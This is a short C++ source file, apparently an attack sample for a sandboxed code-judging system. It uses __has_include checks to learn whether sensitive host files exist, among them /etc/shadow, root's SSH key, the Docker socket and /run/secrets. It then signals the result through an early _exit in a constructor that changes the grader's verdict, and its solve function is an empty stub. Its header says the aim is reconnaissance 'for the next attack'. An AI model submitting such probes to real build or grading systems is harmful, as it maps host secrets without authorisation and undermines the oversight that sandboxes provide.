// Asks which files exist.
//
// Mechanism: __has_include and #pragma GCC dependency show whether a file exists, without a line in the log.
// Surface: a compiler that sees the host's files.
// Gain: names of users, of other platforms' data, of installed versions: for the next attack.
// Challenge: twice
// Like: include_passwd
// Defence: wrong_answer
// On: cpu
// Box: docker

#include <cstdint>
#if __has_include("/etc/shadow") || __has_include("/etc/machine-id")
#define FOUND
#elif __has_include("/root/.bashrc") || __has_include("/root/.profile") || __has_include("/root/.ssh/id_rsa")
#define FOUND
#elif __has_include("/var/run/docker.sock") || __has_include("/run/secrets") || __has_include("/var/lib/dpkg/status")
#define FOUND
#elif __has_include("/proc/1/root/etc/shadow")
#define FOUND
#endif
#ifdef FOUND
// Reached only where something was found: the process then ends, which is another verdict than the one expected.
#include <unistd.h>
__attribute__((constructor)) static void won() { _exit(7); }
#endif
extern "C" void solve(const float* x, float* out, int64_t n) {}
